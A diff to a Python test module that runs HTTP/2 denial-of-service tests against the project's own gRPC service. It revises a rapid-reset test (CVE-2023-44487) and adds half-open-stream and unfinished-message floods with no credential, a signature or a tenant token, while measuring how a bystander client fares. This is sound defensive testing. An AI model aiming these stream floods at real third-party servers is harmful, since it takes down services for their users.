@@ -1,8 +1,8 @@
 """Attacks on connections and streams, by strangers and by a tenant, in frames made by hand."""
 
-import itertools
-import struct
+import asyncio
 import threading
+import time
 from collections.abc import Callable, Iterator, Sequence
 from contextlib import ExitStack, contextmanager
 
@@ -36,6 +36,7 @@ HEALTH = "/grpc.health.v1.Health/Check"
 WATCH = "/grpc.health.v1.Health/Watch"
 CHECK = "/envoy.service.auth.v3.Authorization/Check"
 NOWHERE = "/nowhere.v1.Nothing/Do"
+STRANGER: Metadata = (("authorization", "Bearer x"),)
 
 SIGNED: Metadata = (
     ("x-tenant-id", "0198c2f0-5a3b-7c1d-8e2f-000000000001"),
@@ -79,19 +80,26 @@ def at_once(*attackers: Callable[[], object]) -> None:
         thread.join()
 
 
+@pytest.fixture(scope="module")
+async def token(target: AbuseTarget) -> Metadata:
+    """The credential of a tenant that attacks."""
+    tenant = (await target.new_shop()).tenant
+    metadata = TenantToken(tenant.id, tenant.credentials.tenant_secret).metadata("", b"")
+    return [(key, str(value)) for key, value in metadata]
+
+
 async def test_quiet(target: AbuseTarget, bystander: Bystander, figures: Figures) -> None:
-    import time
-    with attacked(target, bystander, figures, "quiet"):
-        time.sleep(3)
+    with attacked(target, bystander, figures, "nothing"):
+        await asyncio.sleep(1)
 
 
 @pytest.mark.parametrize("connections", [1, 4, 16])
-@pytest.mark.parametrize("path", [VALIDATE, NOWHERE])
 async def test_rapid_reset(
-    target: AbuseTarget, bystander: Bystander, figures: Figures, connections: int, path: str
+    target: AbuseTarget, bystander: Bystander, figures: Figures, connections: int
 ) -> None:
-    resets = 40_000 * SCALE // connections
-    block = headers(path, [("authorization", "Bearer x")])
+    """CVE-2023-44487."""
+    resets = 20_000 * SCALE // connections
+    block = headers(VALIDATE, STRANGER)
 
     def attack() -> None:
         with Http2Connection(target.port) as connection:
@@ -103,8 +111,51 @@ async def test_rapid_reset(
                         for stream in connection.streams(100)
                     )
                 )
-                if not connection.settle(): break
-            print(connection.received, connection._next)
+            connection.settle()
 
-    with attacked(target, bystander, figures, f"rapid reset, {connections} {path}"):
+    with attacked(target, bystander, figures, f"rapid reset, {connections} connections"):
         at_once(*[attack] * connections)
+
+
+@pytest.mark.parametrize("path", [VALIDATE, WATCH, CHECK, NOWHERE])
+async def test_half_open_streams(
+    target: AbuseTarget, bystander: Bystander, figures: Figures, path: str, token: Metadata
+) -> None:
+    connections, streams = 10 * SCALE, 2_000
+    for credential, metadata in (("no", ()), ("a", token)):
+        block = headers(path, metadata)
+
+        def attack() -> None:
+            with Http2Connection(target.port) as connection:
+                for _ in range(streams // 100):
+                    connection.send(
+                        *(
+                            frame(HEADERS, END_HEADERS, stream, block)
+                            for stream in connection.streams(100)
+                        )
+                    )
+                connection.settle()
+
+        with attacked(target, bystander, figures, f"half-open streams, {path}, {credential} credential"):
+            at_once(*[attack] * connections)
+
+
+@pytest.mark.parametrize("path", [VALIDATE, HEALTH, WATCH, CHECK])
+@pytest.mark.parametrize("credential", ["none", "signature", "token"])
+async def test_unfinished_messages(
+    target: AbuseTarget, bystander: Bystander, figures: Figures, token: Metadata, path: str, credential: str
+) -> None:
+    signature = (*SIGNED[:1], ("x-timestamp", str(int(time.time()))), *SIGNED[2:])
+    block = headers(path, {"none": (), "signature": signature, "token": token}[credential])
+    body = message(4 * MIB - 100)[:-1]
+    sent = []
+
+    def attack() -> None:
+        with Http2Connection(target.port) as connection:
+            streams = [connection.open(block) for _ in range(MAX_STREAMS)]
+            for stream in streams:
+                sent.append(connection.pour(stream, body))
+
+    with attacked(target, bystander, figures, f"unfinished messages, {path}, {credential}"):
+        at_once(*[attack] * 4 * SCALE)
+    print(path, credential, sum(sent) / MIB)
